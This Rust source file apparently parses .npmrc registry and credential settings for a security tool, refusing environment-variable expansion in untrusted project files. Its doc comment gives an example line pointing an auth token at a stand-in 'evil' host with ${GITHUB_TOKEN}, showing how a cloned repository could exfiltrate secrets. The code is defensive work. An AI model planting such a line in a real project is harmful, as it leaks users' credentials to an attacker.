//! `.npmrc`: the default registry, `@scope:registry`, and `//host/:_authToken` / `_auth` / `username` +
//! `_password` credentials. Pure: text in, `PrivateRegistries` out; the ini syntax is
//! `model::npmrc_settings`, shared with `policy::cooldown`.
//!
//! Invariants:
//! - `${VAR}` is expanded from the environment only in the user's own files (`Expansion::Env`). npm
//!   expands it in a project's `.npmrc` too; Gatehouse is stricter because it runs on freshly cloned,
//!   untrusted repositories by itself: a project file that says `//evil/:_authToken=${GITHUB_TOKEN}`
//!   (or puts `${AWS_SECRET_ACCESS_KEY}` in a registry path) would otherwise send the user's secret to a
//!   host the repository chose. A project file the user does not trust is read with
//!   `Expansion::Never`: a credential that uses `${…}` is no credential, a registry URL that uses it is
//!   taken as written, and each is reported. A trusted project (`gatehouse trust`,
//!   `--trust-project-config`) is expanded as npm does.
//! - A credential is keyed by its `//host[:port]/path/` scope, for https and http alike (as npm does);
//!   `discover` narrows the user's own to the schemes their files name. Legacy top-level `_auth` /
//!   `_authToken` (no scope), `certfile`, `keyfile` and `cafile` are not read: no setting makes a file
//!   path or an unscoped secret reach a request.
//! - A variable that is not set (`${VAR}`, not the optional `${VAR?}`) leaves its credential out, as
//!   npm refuses the file, instead of sending an empty one.

use std::collections::BTreeMap;

use super::{PrivateRegistries, is_public, trimmed};

/// How `${VAR}` in the values of one `.npmrc` is treated.
#[derive(Clone, Copy)]
pub enum Expansion<'a> {
    /// The user's own file (or a trusted project's): expanded from this environment, as npm does.
    Env(&'a dyn Fn(&str) -> Option<String>),
    /// A project's file the user does not trust: never expanded.
    Never,
}

enum Expanded {
    Value(String),
    /// The value uses this variable and expansion is not allowed.
    Refused(String),
    /// The value needs this variable and it is not set.
    Unset(String),
}

/// Expands `${VAR}` (and the optional `${VAR?}`) the way npm does in `.npmrc` values.
fn expand_env(value: &str, expansion: Expansion<'_>) -> Expanded {
    let mut res = String::new();
    let mut rest = value;
    while let Some(start) = rest.find("${") {
        let Some(end) = rest[start + 2..].find('}') else {
            break;
        };
        let name = &rest[start + 2..start + 2 + end];
        let (name, optional) = match name.strip_suffix('?') {
            Some(name) => (name, true),
            None => (name, false),
        };
        let Expansion::Env(env) = expansion else {
            return Expanded::Refused(name.to_string());
        };
        res.push_str(&rest[..start]);
        match env(name) {
            Some(found) => res.push_str(&found),
            None if optional => {}
            None => return Expanded::Unset(name.to_string()),
        }
        rest = &rest[start + 3 + end..];
    }
    res.push_str(rest);
    Expanded::Value(res)
}

/// The default registry is `url` (the public registry under any spelling is no mirror).
pub(super) fn set_default(into: &mut PrivateRegistries, url: &str) {
    into.npm_default = (!is_public(url)).then(|| trimmed(url));
}

/// Packages of `scope` (with its `@`) come from `url` (the public registry: the scope's own setting
/// is dropped).
pub(super) fn set_scope(into: &mut PrivateRegistries, scope: &str, url: &str) {
    if is_public(url) {
        into.npm_scopes.remove(scope);
    } else {
        into.npm_scopes.insert(scope.to_string(), trimmed(url));
    }
}

const CREDENTIAL_SETTINGS: [&str; 4] = ["_authToken", "_auth", "username", "_password"];

/// Applies one `.npmrc` (later calls override earlier ones). Returns what it left out and why (a
/// variable not expanded or not set), one sentence per setting.
pub fn parse_npmrc(text: &str, expansion: Expansion<'_>, into: &mut PrivateRegistries) -> Vec<String> {
    let mut users: BTreeMap<String, (Option<String>, Option<String>)> = BTreeMap::new();
    let mut notes = Vec::new();
    for (key, raw) in crate::model::npmrc_settings(text) {
        let is_credential = key.starts_with("//")
            && key
                .rsplit_once(':')
                .is_some_and(|(_, setting)| CREDENTIAL_SETTINGS.contains(&setting));
        let is_registry = key == "registry" || key.ends_with(":registry");
        let value = match expand_env(raw, expansion) {
            Expanded::Value(value) => value,
            Expanded::Refused(name) if is_credential => {
                notes.push(format!(
                    "`{key}` uses `${{{name}}}`, which is not expanded in a project's .npmrc the user does not trust: no credential is sent for it"
                ));
                continue;
            }
            Expanded::Refused(name) => {
                if is_registry {
                    notes.push(format!(
                        "`{key}` uses `${{{name}}}`, which is not expanded in a project's .npmrc the user does not trust: the registry is used as written"
                    ));
                }
                raw.to_string()
            }
            Expanded::Unset(name) if is_credential => {
                notes.push(format!(
                    "`{key}` uses `${{{name}}}`, which is not set: no credential is sent for it"
                ));
                continue;
            }
            Expanded::Unset(name) => {
                if is_registry {
                    notes.push(format!(
                        "`{key}` uses `${{{name}}}`, which is not set: the setting is left out"
                    ));
                }
                continue;
            }
        };
        if key == "registry" {
            set_default(into, &value);
        } else if let Some(scope) = key.strip_suffix(":registry")
            && scope.starts_with('@')
        {
            set_scope(into, scope, &value);
        } else if let Some(rest) = key.strip_prefix("//")
            && let Some((host_path, setting)) = rest.rsplit_once(":")
        {
            let header = match setting {
                "_authToken" => Some(format!("Bearer {value}")),
                "_auth" => Some(format!("Basic {value}")),
                "username" => {
                    users.entry(host_path.to_string()).or_default().0 = Some(value.clone());
                    None
                }
                "_password" => {
                    users.entry(host_path.to_string()).or_default().1 = Some(value.clone());
                    None
                }
                _ => None,
            };
            if let Some(header) = header {
                for scheme in ["https", "http"] {
                    into.credentials.insert(&format!("{scheme}://{host_path}"), &header);
                }
            }
        }
    }
    use base64::Engine;
    for (host_path, (user, password)) in users {
        let (Some(user), Some(password)) = (user, password) else {
            continue;
        };
        // npm stores `_password` base64-encoded.
        let password = base64::engine::general_purpose::STANDARD
            .decode(password.as_bytes())
            .ok()
            .and_then(|p| String::from_utf8(p).ok())
            .unwrap_or(password);
        let basic = base64::engine::general_purpose::STANDARD.encode(format!("{user}:{password}"));
        for scheme in ["https", "http"] {
            into.credentials
                .insert(&format!("{scheme}://{host_path}"), &format!("Basic {basic}"));
        }
    }
    notes
}
